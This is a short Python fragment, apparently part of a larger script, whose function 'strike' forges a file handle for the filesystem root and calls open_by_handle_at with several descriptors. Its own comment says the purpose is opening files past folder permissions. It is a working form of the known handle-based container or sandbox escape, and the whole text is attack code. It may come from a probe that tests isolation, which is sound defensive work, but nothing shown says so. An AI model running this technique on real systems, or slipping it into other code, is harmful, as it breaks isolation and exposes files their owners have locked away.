# Opens files by handles, past all permissions of folders.


def strike():
    handle = (ctypes.c_char * 136)()
    handle[0] = b"\x80"
    number = ctypes.c_int()
    at = ctypes.byref(number)
    attempt("handle", invoke, "name_to_handle_at", -100, b"/", handle, at, 0)
    root = (ctypes.c_char * 136)(b"\x08", 0, 0, 0, 1, 0, 0, 0, 2)
    for descriptor in (-100, 0, 1, 2, 3):
        attempt(f"root by {descriptor}", invoke, "open_by_handle_at", descriptor, root, 0)
